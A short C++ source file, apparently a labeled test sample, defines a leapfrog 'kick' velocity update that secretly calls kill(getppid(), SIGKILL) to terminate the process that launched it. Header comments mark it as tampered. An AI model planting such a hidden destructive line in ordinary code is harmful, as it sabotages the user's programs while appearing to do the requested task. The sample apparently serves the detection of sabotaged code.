// Does: kills the process that started it.
// Verdict: tampered: calls kill()
#include <unistd.h>
#include <csignal>

#include "01_leapfrog/leapfrog.hpp"

namespace spook {

Vec3 kick(const Vec3& v, const Vec3& f, double inverse_mass, double h) {
  kill(getppid(), SIGKILL);
  return v + h * inverse_mass * f;
}

}  // namespace spook
